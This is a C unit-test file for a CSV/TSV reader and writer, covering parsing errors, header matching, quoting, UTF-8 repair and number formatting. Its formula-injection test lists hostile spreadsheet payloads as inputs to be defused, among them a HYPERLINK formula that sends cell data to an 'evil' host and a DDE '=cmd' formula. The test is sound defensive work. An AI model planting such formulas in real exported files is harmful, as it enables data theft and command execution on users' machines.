/*
 * Unit tests for lib/csv: the reader's RFC 4180 grammar and tolerances,
 * every reader error with its exact "name:line:" prefix, header matching,
 * TSV, the writer's quoting, formula-injection defusing (reliability.md
 * section 6 and checklist C1-C5), number formatting, a strict RFC 4180
 * check of writer output, and random write/read round trips through
 * memory and through files larger than the reader's 64 KiB chunk.
 */
#include <criterion/criterion.h>

#include <errno.h>
#include <float.h>
#include <limits.h>
#include <locale.h>
#include <math.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "lib/csv.h"
#include "lib/strbuf.h"
#include "lib/xalloc.h"

#define LEN(a) (sizeof(a) / sizeof((a)[0]))

/* xorshift64*: a fixed, libc-independent sequence */
static uint64_t rng_state = 0x9E3779B97F4A7C15u;

static uint64_t
rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 2685821657736338717u;
}

static size_t
rng_below(size_t n)
{
	return (size_t)(rng() >> 11) % n;
}

/* ------------------------------------------------------------------ */
/* helpers */

static struct csv_reader *
mem_reader(const char *data, size_t len)
{
	struct csv_reader *r;

	cr_assert_eq(csv_reader_open_mem(&r, "t.csv", data, len), ST_OK);
	return r;
}

#define MEM(lit) mem_reader(lit, sizeof(lit) - 1)

static void
expect_record(struct csv_reader *r, size_t line, size_t n, ...)
{
	va_list ap;
	bool eof;
	size_t i;

	cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
	cr_assert(!eof, "unexpected end of input");
	cr_assert_eq(csv_line(r), line, "record on line %zu, want %zu",
	             csv_line(r), line);
	cr_assert_eq(csv_nfields(r), n, "%zu fields, want %zu", csv_nfields(r),
	             n);
	va_start(ap, n);
	for (i = 0; i < n; i++) {
		const char *want = va_arg(ap, const char *);

		cr_assert_str_eq(csv_field(r, i), want, "field %zu", i);
		cr_assert_eq(csv_field_len(r, i), strlen(want));
	}
	va_end(ap);
}

static void
expect_eof(struct csv_reader *r)
{
	bool eof;

	cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
	cr_assert(eof, "more records than expected");
	cr_assert_eq(csv_nfields(r), 0);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert(eof, "end of input is sticky");
}

/* Read until something fails; it must fail with st and msg. */
static void
expect_error_n(const char *data, size_t len, enum status want_st,
               const char *msg)
{
	struct csv_reader *r = mem_reader(data, len);
	enum status st;
	bool eof = false;
	size_t guard = 0;

	while ((st = csv_read(r, &eof)) == ST_OK && !eof)
		cr_assert(guard++ < 100000);
	cr_assert(!eof, "no error, want '%s'", msg);
	cr_assert_eq(st, want_st);
	cr_assert_str_eq(err_msg(), msg);
	cr_assert_eq(csv_nfields(r), 0);
	csv_reader_free(r);
}

#define EXPECT_ERROR(lit, msg)                                                 \
	expect_error_n(lit, sizeof(lit) - 1, ST_DATAERR, msg)

static char *
tmp_path(void)
{
	const char *dir = getenv("TMPDIR");
	struct strbuf sb = STRBUF_INIT;
	int fd;

	strbuf_addf(&sb, "%s/test_csv.XXXXXX", dir && *dir ? dir : "/tmp");
	fd = mkstemp(sb.buf);
	cr_assert(fd >= 0, "mkstemp: %s", strerror(errno));
	close(fd);
	return strbuf_detach(&sb, NULL);
}

static char *
write_tmp(const char *data, size_t len)
{
	char *path = tmp_path();
	FILE *fp = fopen(path, "w");

	cr_assert(fp);
	cr_assert_eq(fwrite(data, 1, len, fp), len);
	cr_assert_eq(fclose(fp), 0);
	return path;
}

/* ------------------------------------------------------------------ */
/* reader: grammar and tolerances */

Test(csv_read, basic_crlf_and_lf)
{
	struct csv_reader *r = MEM("a,b,c\r\n1,2,3\nx,,z\r\n");

	expect_record(r, 1, 3, "a", "b", "c");
	expect_record(r, 2, 3, "1", "2", "3");
	expect_record(r, 3, 3, "x", "", "z");
	expect_eof(r);
	cr_assert_str_eq(csv_name(r), "t.csv");
	csv_reader_free(r);
}

Test(csv_read, final_record_without_newline)
{
	struct csv_reader *r = MEM("a,b\n1,2");

	expect_record(r, 1, 2, "a", "b");
	expect_record(r, 2, 2, "1", "2");
	expect_eof(r);
	csv_reader_free(r);

	r = MEM("a,b\n1,");
	expect_record(r, 1, 2, "a", "b");
	expect_record(r, 2, 2, "1", "");
	expect_eof(r);
	csv_reader_free(r);

	r = MEM("a,b\n\"1\",\"2\"");
	expect_record(r, 1, 2, "a", "b");
	expect_record(r, 2, 2, "1", "2");
	expect_eof(r);
	csv_reader_free(r);

	/* a CR at the very end ends the record too */
	r = MEM("a,b\r");
	expect_record(r, 1, 2, "a", "b");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_read, blank_lines_skipped_and_counted)
{
	struct csv_reader *r = MEM("\n\r\na,b\n\n\r\n1,2\n\n");

	expect_record(r, 3, 2, "a", "b");
	expect_record(r, 6, 2, "1", "2");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_read, spaces_are_data)
{
	struct csv_reader *r = MEM(" a , b \n \n");

	expect_record(r, 1, 2, " a ", " b ");
	/* a line of spaces is a record, not a blank line */
	EXPECT_ERROR(" a , b \n \n", "t.csv:2: expected 2 fields, got 1");
	csv_reader_free(r);
}

Test(csv_read, empty_input)
{
	struct csv_reader *r = MEM("");

	expect_eof(r);
	csv_reader_free(r);
	cr_assert_eq(csv_reader_open_mem(&r, "null", NULL, 0), ST_OK);
	expect_eof(r);
	csv_reader_free(r);
	r = MEM("\xEF\xBB\xBF");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_read, bom_skipped_only_at_start)
{
	struct csv_reader *r = MEM("\xEF\xBB\xBF"
	                           "id,name\n1,\xEF\xBB\xBFx\n");

	expect_record(r, 1, 2, "id", "name");
	expect_record(r, 2, 2, "1", "\xEF\xBB\xBFx");
	expect_eof(r);
	csv_reader_free(r);

	/* and from a file */
	static const char data[] = "\xEF\xBB\xBF"
	                           "\"id\",name\r\n";
	char *path = write_tmp(data, sizeof(data) - 1);

	cr_assert_eq(csv_reader_open(&r, path), ST_OK);
	expect_record(r, 1, 2, "id", "name");
	expect_eof(r);
	csv_reader_free(r);
	unlink(path);
	free(path);
}

Test(csv_read, quoted_fields)
{
	struct csv_reader *r =
	    MEM("\"a,b\",\"say \"\"hi\"\"\",\"\"\n\"\"\"\",x,\"\"\"\"\"\"\n");

	expect_record(r, 1, 3, "a,b", "say \"hi\"", "");
	expect_record(r, 2, 3, "\"", "x", "\"\"");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_read, quoted_newlines_keep_line_numbers)
{
	struct csv_reader *r = MEM("h1,h2\n"
	                           "\"a\nb\",c\n"
	                           "\"x\r\ny\r\n\",z\r\n"
	                           "\n"
	                           "last,\"\n\n\"\n"
	                           "end,1\n");

	expect_record(r, 1, 2, "h1", "h2");
	expect_record(r, 2, 2, "a\nb", "c");
	expect_record(r, 4, 2, "x\r\ny\r\n", "z");
	expect_record(r, 8, 2, "last", "\n\n");
	expect_record(r, 11, 2, "end", "1");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_read, utf8_accepted)
{
	struct csv_reader *r = MEM("caf\xC3\xA9,\xE2\x82\xAC,\xF0\x9F\x98\x80,"
	                           "\xF4\x8F\xBF\xBF,\xED\x9F\xBF\n");

	expect_record(r, 1, 5, "caf\xC3\xA9", "\xE2\x82\xAC",
	              "\xF0\x9F\x98\x80", "\xF4\x8F\xBF\xBF", "\xED\x9F\xBF");
	csv_reader_free(r);
}

/* ------------------------------------------------------------------ */
/* reader: errors, each with its exact prefix */

Test(csv_error, quote_inside_unquoted_field)
{
	EXPECT_ERROR("a,b\nc,d\"e\n", "t.csv:2: quote inside unquoted field");
	EXPECT_ERROR("a,b\nc,d\"\n", "t.csv:2: quote inside unquoted field");
	EXPECT_ERROR("a\"", "t.csv:1: quote inside unquoted field");
	EXPECT_ERROR("a,b\n \"c\",d\n", "t.csv:2: quote inside unquoted field");
}

Test(csv_error, text_after_closing_quote)
{
	EXPECT_ERROR("a,b\n\"c\"x,d\n", "t.csv:2: text after closing quote");
	EXPECT_ERROR("a,b\n\"c\n\" ,d\n", "t.csv:3: text after closing quote");
}

Test(csv_error, unterminated_quote_reports_its_start)
{
	EXPECT_ERROR("a,b\n\"c\nd\ne", "t.csv:2: unterminated quoted field");
	EXPECT_ERROR("a,b\nx,\"", "t.csv:2: unterminated quoted field");
	EXPECT_ERROR("a,b\nx,\"\"\"", "t.csv:2: unterminated quoted field");
}

Test(csv_error, bare_cr)
{
	EXPECT_ERROR("a\rb\n", "t.csv:1: carriage return without newline");
	EXPECT_ERROR("a\n\rb\n", "t.csv:2: carriage return without newline");
	EXPECT_ERROR("a\n\"b\"\rc\n",
	             "t.csv:2: carriage return without newline");
}

Test(csv_error, nul_byte)
{
	EXPECT_ERROR("a,b\nc,d\0e\n", "t.csv:2: NUL byte in field 2");
	EXPECT_ERROR("a,b\n\"x\ny\",\"\n\0\"\n",
	             "t.csv:4: NUL byte in field 2");
	EXPECT_ERROR("\0", "t.csv:1: NUL byte in field 1");
}

Test(csv_error, invalid_utf8)
{
	EXPECT_ERROR("a,b\nc,\"x\ny\xE4\xB8z\"\n",
	             "t.csv:3: invalid UTF-8 in field 2");
	EXPECT_ERROR("\xC0\x80", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xE0\x80\x80", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xF0\x80\x80\x80", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xC1\xBF", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xED\xA0\x80", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xF4\x90\x80\x80", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("\xF5", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("a,\xFF", "t.csv:1: invalid UTF-8 in field 2");
	EXPECT_ERROR("a\xE2\x82", "t.csv:1: invalid UTF-8 in field 1");
	EXPECT_ERROR("abcdefghijklmnop\x80",
	             "t.csv:1: invalid UTF-8 in field 1");
	/* Latin-1, the usual culprit */
	EXPECT_ERROR("name\nCaf\xE9\n", "t.csv:2: invalid UTF-8 in field 1");
}

Test(csv_error, field_count)
{
	EXPECT_ERROR("a,b,c,d\n1,2,3,4\n1,2,3,4,5\n",
	             "t.csv:3: expected 4 fields, got 5");
	EXPECT_ERROR("a,b,c,d\n1,2,3\n", "t.csv:2: expected 4 fields, got 3");
	EXPECT_ERROR("a\n1,2\n", "t.csv:2: expected 1 field, got 2");
	EXPECT_ERROR("a,b\n\"1\n2\",3\n\n4\n",
	             "t.csv:5: expected 2 fields, got 1");
}

Test(csv_error, field_longer_than_cap)
{
	size_t n = CSV_MAX_FIELD;
	char *buf = xmalloc(n + 16);
	struct csv_reader *r;
	bool eof;

	/* exactly at the cap: fine, quoted or not */
	memcpy(buf, "h\n", 2);
	memset(buf + 2, 'x', n);
	r = mem_reader(buf, n + 2);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
	cr_assert_eq(csv_field_len(r, 0), n);
	csv_reader_free(r);

	buf[2] = '"';
	memset(buf + 3, 'x', n);
	buf[n + 3] = '"';
	r = mem_reader(buf, n + 4);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
	cr_assert_eq(csv_field_len(r, 0), n);
	csv_reader_free(r);

	/* one more byte */
	memset(buf + 2, 'x', n + 1);
	expect_error_n(buf, n + 3, ST_DATAERR,
	               "t.csv:2: field longer than 1 MiB");
	/* quoted, starting on line 2, running past line 3 */
	memcpy(buf + 2, "\"\n", 2);
	memset(buf + 4, 'x', n);
	expect_error_n(buf, n + 4, ST_DATAERR,
	               "t.csv:2: field longer than 1 MiB");
	free(buf);
}

Test(csv_error, too_many_fields)
{
	struct strbuf sb = STRBUF_INIT;
	struct csv_reader *r;
	size_t i;
	bool eof;

	for (i = 1; i < CSV_MAX_FIELDS; i++)
		strbuf_addch(&sb, ',');
	r = mem_reader(sb.buf, sb.len);
	cr_assert_eq(csv_read(r, &eof), ST_OK, "%s", err_msg());
	cr_assert_eq(csv_nfields(r), CSV_MAX_FIELDS);
	csv_reader_free(r);

	strbuf_addch(&sb, ',');
	expect_error_n(sb.buf, sb.len, ST_DATAERR,
	               "t.csv:1: more than 4096 fields");
	strbuf_release(&sb);
}

Test(csv_error, record_longer_than_cap)
{
	size_t nf = CSV_MAX_RECORD / CSV_MAX_FIELD + 1, i, len;
	char *buf = xmalloc(nf * (CSV_MAX_FIELD + 1) + 8);

	memcpy(buf, "\n\n", 2);
	len = 2;
	for (i = 0; i < nf; i++) {
		memset(buf + len, 'y', CSV_MAX_FIELD - 1);
		len += CSV_MAX_FIELD - 1;
		buf[len++] = ',';
	}
	expect_error_n(buf, len, ST_DATAERR,
	               "t.csv:3: record longer than 64 MiB");
	free(buf);
}

Test(csv_error, syntax_errors_are_sticky)
{
	struct csv_reader *r = MEM("a,b\nc\"d,e\nf,g\n");
	bool eof;

	expect_record(r, 1, 2, "a", "b");
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	err_clear();
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:2: quote inside unquoted field");
	cr_assert(!eof);
	csv_reader_free(r);
}

Test(csv_error, record_errors_let_reading_go_on)
{
	struct csv_reader *r = MEM("a,b\n1,2,3\n\xFF,x\n4,5\n6,\0\n7,8");
	bool eof;

	expect_record(r, 1, 2, "a", "b");
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:2: expected 2 fields, got 3");
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:3: invalid UTF-8 in field 1");
	expect_record(r, 4, 2, "4", "5");
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:5: NUL byte in field 2");
	expect_record(r, 6, 2, "7", "8");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_error, io_errors)
{
	struct csv_reader *r;
	char *dir = tmp_path();
	bool eof;

	unlink(dir);
	cr_assert_eq(csv_reader_open(&r, dir), ST_NOINPUT);
	cr_assert_null(r);
	cr_assert(strstr(err_msg(), "cannot open '") == err_msg());
	cr_assert(strstr(err_msg(), "': No such file or directory"));

	/* reading a folder fails at read time: ST_IOERR, sticky */
	cr_assert_eq(mkdir(dir, 0700), 0);
	cr_assert_eq(csv_reader_open(&r, dir), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_IOERR);
	struct strbuf want = STRBUF_INIT;
	strbuf_addf(&want, "cannot read '%s': %s", dir, strerror(EISDIR));
	cr_assert_str_eq(err_msg(), want.buf);
	cr_assert_eq(csv_read(r, &eof), ST_IOERR);
	cr_assert_str_eq(err_msg(), want.buf);
	csv_reader_free(r);
	rmdir(dir);
	strbuf_release(&want);
	free(dir);
}

Test(csv_read, from_a_stream)
{
	/* what `oligo import -` does with standard input */
	int fds[2];
	FILE *in;
	struct csv_reader *r;
	static const char data[] = "a,b\n\"x\ny\",2\n";

	cr_assert_eq(pipe(fds), 0);
	cr_assert_eq(write(fds[1], data, sizeof(data) - 1),
	             (ssize_t)sizeof(data) - 1);
	close(fds[1]);
	in = fdopen(fds[0], "r");
	cr_assert(in);
	cr_assert_eq(csv_reader_open_fp(&r, "<stdin>", in), ST_OK);
	expect_record(r, 1, 2, "a", "b");
	expect_record(r, 2, 2, "x\ny", "2");
	expect_eof(r);
	csv_reader_free(r);
	/* the stream is still ours */
	cr_assert_eq(fclose(in), 0);
}

Test(csv_error, file_errors_name_the_path)
{
	static const char data[] = "a,b\n1,2\n3\"\n";
	char *path = write_tmp(data, sizeof(data) - 1);
	struct strbuf want = STRBUF_INIT;
	struct csv_reader *r;
	bool eof;

	cr_assert_eq(csv_reader_open(&r, path), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	strbuf_addf(&want, "%s:3: quote inside unquoted field", path);
	cr_assert_str_eq(err_msg(), want.buf);
	csv_reader_free(r);
	unlink(path);
	free(path);
	strbuf_release(&want);
}

/* ------------------------------------------------------------------ */
/* header */

static const char *const req[] = {"entity", "market", "share_pct", NULL};
static const char *const opt[] = {"source", "note", NULL};

Test(csv_header, match_case_insensitive_trimmed)
{
	struct csv_reader *r = MEM("\xEF\xBB\xBF Share_PCT ,ENTITY,\tMarket,"
	                           "source\n"
	                           "40.5,OpenAI,llm,https://x\n");
	bool eof;

	cr_assert_eq(csv_read_header(r, req, opt), ST_OK, "%s", err_msg());
	cr_assert_eq(csv_col(r, "entity"), 1);
	cr_assert_eq(csv_col(r, "market"), 2);
	cr_assert_eq(csv_col(r, "share_pct"), 0);
	cr_assert_eq(csv_col(r, "SOURCE"), 3);
	cr_assert_eq(csv_col(r, "note"), -1);
	cr_assert_eq(csv_read(r, &eof), ST_OK);
	cr_assert_str_eq(csv_get(r, "entity"), "OpenAI");
	cr_assert_str_eq(csv_get(r, "share_pct"), "40.5");
	cr_assert_str_eq(csv_get(r, "source"), "https://x");
	cr_assert_str_eq(csv_get(r, "note"), "");
	cr_assert_eq(csv_line(r), 2);
	expect_eof(r);
	csv_reader_free(r);
}

static void
expect_header_error(const char *data, const char *msg)
{
	struct csv_reader *r = mem_reader(data, strlen(data));

	cr_assert_eq(csv_read_header(r, req, opt), ST_DATAERR);
	cr_assert_str_eq(err_msg(), msg);
	csv_reader_free(r);
}

Test(csv_header, errors)
{
	expect_header_error("entity,market\n",
	                    "t.csv:1: missing column 'share_pct'");
	expect_header_error("entity,market,share_pct,x\n",
	                    "t.csv:1: unknown column 'x'");
	expect_header_error("entity,market,share_pct,Market\n",
	                    "t.csv:1: duplicate column 'Market'");
	expect_header_error("entity,market,share_pct,\n",
	                    "t.csv:1: unknown column ''");
	expect_header_error("", "t.csv:1: no header line");
	expect_header_error("\n\nentity,market\n",
	                    "t.csv:3: missing column 'share_pct'");
	/* the header is held to the same grammar */
	expect_header_error("entity,mar\"ket\n",
	                    "t.csv:1: quote inside unquoted field");
	/* control characters in a name cannot reach the terminal raw */
	expect_header_error("entity,\x1b[31mred,\n",
	                    "t.csv:1: unknown column '\\x1b[31mred'");
	expect_header_error("entity,\xC2\x9B"
	                    "31m\n",
	                    "t.csv:1: unknown column '\\u009b31m'");
}

Test(csv_header, no_lists_and_later_records_checked)
{
	struct csv_reader *r = MEM("a,b\n1,2,3\n");
	static const char *const ab[] = {"a", "b", NULL};
	bool eof;

	cr_assert_eq(csv_read_header(r, ab, NULL), ST_OK);
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:2: expected 2 fields, got 3");
	csv_reader_free(r);

	r = MEM("a\n");
	cr_assert_eq(csv_read_header(r, NULL, ab), ST_OK);
	cr_assert_eq(csv_col(r, "b"), -1);
	csv_reader_free(r);
}

/* ------------------------------------------------------------------ */
/* TSV */

Test(csv_tsv, tab_separated_no_quoting)
{
	/* shaped like an SEC 13F INFOTABLE.tsv */
	struct csv_reader *r = MEM("ACCESSION_NUMBER\tNAMEOFISSUER\tVALUE\r\n"
	                           "0001\tNVIDIA \"CORP\"\t123\r\n"
	                           "0002\t\"a,b\t\n");
	static const char *const cols[] = {"accession_number", "nameofissuer",
	                                   "value", NULL};

	csv_reader_set_separator(r, '\t');
	cr_assert_eq(csv_read_header(r, cols, NULL), ST_OK, "%s", err_msg());
	expect_record(r, 2, 3, "0001", "NVIDIA \"CORP\"", "123");
	expect_record(r, 3, 3, "0002", "\"a,b", "");
	expect_eof(r);
	csv_reader_free(r);
}

Test(csv_tsv, quoting_can_be_turned_back_on)
{
	struct csv_reader *r = MEM("a\tb\n\"x\ty\"\tz\n");

	csv_reader_set_separator(r, '\t');
	csv_reader_set_quoting(r, true);
	expect_record(r, 1, 2, "a", "b");
	expect_record(r, 2, 2, "x\ty", "z");
	csv_reader_free(r);

	r = MEM("a;\"b;c\"\n");
	csv_reader_set_separator(r, ';');
	expect_record(r, 1, 2, "a", "b;c");
	csv_reader_free(r);

	r = MEM("a,\"b\n");
	csv_reader_set_quoting(r, false);
	expect_record(r, 1, 2, "a", "\"b");
	csv_reader_free(r);
}

Test(csv_tsv, errors_still_apply)
{
	struct csv_reader *r = MEM("a\tb\nc\n");
	bool eof;

	csv_reader_set_separator(r, '\t');
	expect_record(r, 1, 2, "a", "b");
	cr_assert_eq(csv_read(r, &eof), ST_DATAERR);
	cr_assert_str_eq(err_msg(), "t.csv:2: expected 2 fields, got 1");
	csv_reader_free(r);
}

/* ------------------------------------------------------------------ */
/* writer */

struct out {
	char *buf;
	size_t len;
	FILE *fp;
	struct csv_writer w;
};

static void
out_open(struct out *o, enum csv_dialect d, bool bom)
{
	o->buf = NULL;
	o->len = 0;
	o->fp = open_memstream(&o->buf, &o->len);
	cr_assert(o->fp);
	csv_writer_init(&o->w, o->fp, d, bom);
}

/* Finish and return the bytes written; the caller frees. */
static char *
out_close(struct out *o, size_t *len)
{
	cr_assert_eq(csv_writer_error(&o->w), ST_OK, "%s", err_msg());
	cr_assert_eq(fclose(o->fp), 0);
	*len = o->len;
	return o->buf;
}

/* One record of one text cell, as written. */
static void
expect_text_cell(const char *in, size_t inlen, enum csv_dialect d,
                 const char *want)
{
	struct out o;
	char *got;
	size_t len;

	out_open(&o, d, false);
	csv_put_text_len(&o.w, in, inlen);
	csv_put_number(&o.w, "1");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_eq(len, strlen(got));
	cr_assert_str_eq(got, want, "input '%s'", in);
	free(got);
}

#define CELL(in, want)                                                         \
	expect_text_cell(in, sizeof(in) - 1, CSV_RFC4180, want ",1\r\n")
#define TSV_CELL(in, want)                                                     \
	expect_text_cell(in, sizeof(in) - 1, CSV_TSV, want "\t1\n")

Test(csv_write, formula_injection_defused)
{
	/* reliability.md section 10, C1 */
	CELL("=HYPERLINK(\"http://x?\"&A1)",
	     "\"'=HYPERLINK(\"\"http://x?\"\"&A1)\"");
	CELL("=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
	     "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\"");
	CELL("+1", "'+1");
	CELL("-2+3", "'-2+3");
	CELL("@SUM(A1)", "'@SUM(A1)");
	CELL("@SUM", "'@SUM");
	CELL("\t=1", "'\t=1");
	CELL("\t=", "'\t=");
	CELL("\r=1", "\"'\r=1\"");
	CELL(" =1", "\"' =1\"");
	CELL(" =cmd", "\"' =cmd\"");
	CELL("   @x", "\"'   @x\"");
	CELL("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1");
	CELL("=WEBSERVICE(\"u\")", "\"'=WEBSERVICE(\"\"u\"\")\"");
	/* NULs are dropped first, so they cannot hide a formula */
	CELL("\0=1", "'=1");
	CELL(" \0 -1", "\"'  -1\"");
	/* not at the start: harmless */
	CELL("a=1", "a=1");
	CELL("1-2", "1-2");
	CELL("x@y", "x@y");
	CELL("'=1", "'=1");
	/* TSV opens in spreadsheets too */
	TSV_CELL("=1+1", "'=1+1");
	TSV_CELL("\t-1", "' -1");
}

Test(csv_write, our_numbers_are_not_prefixed)
{
	/* checklist C2 */
	struct out o;
	char *got;
	size_t len;

	out_open(&o, CSV_RFC4180, false);
	csv_put_double(&o.w, -2.5, CSV_SHORTEST);
	csv_put_double(&o.w, -1.5, 1);
	csv_put_number(&o.w, "-1.5");
	csv_put_number(&o.w, "2024-01-31");
	csv_put_int(&o.w, -42);
	csv_put_int(&o.w, LLONG_MIN);
	csv_put_null(&o.w);
	csv_put_text(&o.w, "-2.5");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_str_eq(got, "-2.5,-1.5,-1.5,2024-01-31,-42,"
	                      "-9223372036854775808,,'-2.5\r\n");
	cr_assert_eq(o.w.nrecords, 1);
	free(got);
}

Test(csv_write, rfc4180_quoting)
{
	/* checklist C3 */
	CELL("plain", "plain");
	CELL("a,b", "\"a,b\"");
	CELL("say \"hi\"", "\"say \"\"hi\"\"\"");
	CELL("\"", "\"\"\"\"");
	CELL("two\nlines", "\"two\nlines\"");
	CELL("cr\rlf\r\n", "\"cr\rlf\r\n\"");
	CELL(" lead", "\" lead\"");
	CELL("trail ", "\"trail \"");
	CELL("in side", "in side");
	CELL("tab\tinside", "tab\tinside");
	CELL("", "");
	CELL("\0", "");
	CELL("caf\xC3\xA9", "caf\xC3\xA9");
}

Test(csv_write, utf8_repaired_nul_stripped)
{
	/* one U+FFFD per maximal invalid subpart, as in reliability T4 */
	CELL("a\xE4\xB8"
	     "b",
	     "a\xEF\xBF\xBD"
	     "b");
	CELL("\xC0\x80", "\xEF\xBF\xBD\xEF\xBF\xBD");
	CELL("\xED\xA0\x80", "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
	CELL("\xF0\x9F\x98", "\xEF\xBF\xBD");
	CELL("\xF0\x9F\x98\x80", "\xF0\x9F\x98\x80");
	CELL("\xFF,", "\"\xEF\xBF\xBD,\"");
	CELL("a\0b\0", "ab");
	CELL("\xF4\x90\x80\x80",
	     "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
	/* U+FFFD is not a formula character */
	CELL("\x80=1", "\xEF\xBF\xBD=1");
}

Test(csv_write, tsv_dialect)
{
	TSV_CELL("a\tb", "a b");
	TSV_CELL("a\r\nb\n", "a  b ");
	TSV_CELL("say \"hi\", ok", "say \"hi\", ok");
	TSV_CELL(" lead", " lead");
	TSV_CELL("\xFF", "\xEF\xBF\xBD");
}

Test(csv_write, bom_only_when_asked)
{
	/* checklist C5 */
	struct out o;
	char *got;
	size_t len;

	out_open(&o, CSV_RFC4180, true);
	csv_put_text(&o.w, "id");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_eq(len, 7);
	cr_assert(!memcmp(got, "\xEF\xBB\xBFid\r\n", 7));
	free(got);

	out_open(&o, CSV_RFC4180, false);
	csv_put_text(&o.w, "id");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_str_eq(got, "id\r\n");
	free(got);
}

Test(csv_write, leading_feff_in_first_cell_survives)
{
	struct out o;
	struct csv_reader *r;
	char *got;
	size_t len;

	out_open(&o, CSV_RFC4180, false);
	csv_put_text(&o.w, "\xEF\xBB\xBFid");
	csv_put_text(&o.w, "\xEF\xBB\xBFx");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_str_eq(got, "\"\xEF\xBB\xBFid\",\xEF\xBB\xBFx\r\n");
	r = mem_reader(got, len);
	expect_record(r, 1, 2, "\xEF\xBB\xBFid", "\xEF\xBB\xBFx");
	csv_reader_free(r);
	free(got);

	/* behind our own BOM it needs nothing */
	out_open(&o, CSV_RFC4180, true);
	csv_put_text(&o.w, "\xEF\xBB\xBFid");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_str_eq(got, "\xEF\xBB\xBF\xEF\xBB\xBFid\r\n");
	r = mem_reader(got, len);
	expect_record(r, 1, 1, "\xEF\xBB\xBFid");
	csv_reader_free(r);
	free(got);
}

Test(csv_write, lone_empty_field_is_not_a_blank_line)
{
	struct out o;
	struct csv_reader *r;
	char *got;
	size_t len;

	out_open(&o, CSV_RFC4180, false);
	csv_put_text(&o.w, "h");
	csv_end_record(&o.w);
	csv_put_null(&o.w);
	csv_end_record(&o.w);
	csv_put_text(&o.w, NULL);
	csv_end_record(&o.w);
	csv_put_text(&o.w, "x");
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert_str_eq(got, "h\r\n\"\"\r\n\"\"\r\nx\r\n");
	r = mem_reader(got, len);
	expect_record(r, 1, 1, "h");
	expect_record(r, 2, 1, "");
	expect_record(r, 3, 1, "");
	expect_record(r, 4, 1, "x");
	expect_eof(r);
	csv_reader_free(r);
	free(got);
}

static char *
double_str(double v, int decimals)
{
	struct out o;
	char *got;
	size_t len;

	out_open(&o, CSV_RFC4180, false);
	csv_put_double(&o.w, v, decimals);
	csv_put_null(&o.w);
	csv_end_record(&o.w);
	got = out_close(&o, &len);
	cr_assert(len >= 3 && !strcmp(got + len - 3, ",\r\n"));
	got[len - 3] = '\0';
	return got;
}

#define DBL(v, dec, want)                                                      \
	do {                                                                   \
		char *s_ = double_str(v, dec);                                 \
		cr_assert_str_eq(s_, want, "%s, %d", #v, dec);                 \
		free(s_);                                                      \
	} while (0)

Test(csv_write, doubles)
{
	DBL(0.1, CSV_SHORTEST, "0.1");
	DBL(-2.5, CSV_SHORTEST, "-2.5");
	DBL(1.0 / 3, CSV_SHORTEST, "0.3333333333333333");
	DBL(0.1 + 0.2, CSV_SHORTEST, "0.30000000000000004");
	DBL(100.0, CSV_SHORTEST, "100");
	DBL(123456789.0, CSV_SHORTEST, "123456789");
	DBL(1e20, CSV_SHORTEST, "100000000000000000000");
	DBL(1e21, CSV_SHORTEST, "1e+21");
	DBL(1.5e-7, CSV_SHORTEST, "0.00000015");
	DBL(1e-8, CSV_SHORTEST, "1e-08");
	DBL(DBL_MAX, CSV_SHORTEST, "1.7976931348623157e+308");
	DBL(-5e-324, CSV_SHORTEST, "-5e-324");
	DBL(1e-310, CSV_SHORTEST, "1e-310");
	DBL(DBL_MIN, CSV_SHORTEST, "2.2250738585072014e-308");
	DBL(123456789012345.6, CSV_SHORTEST, "123456789012345.6");
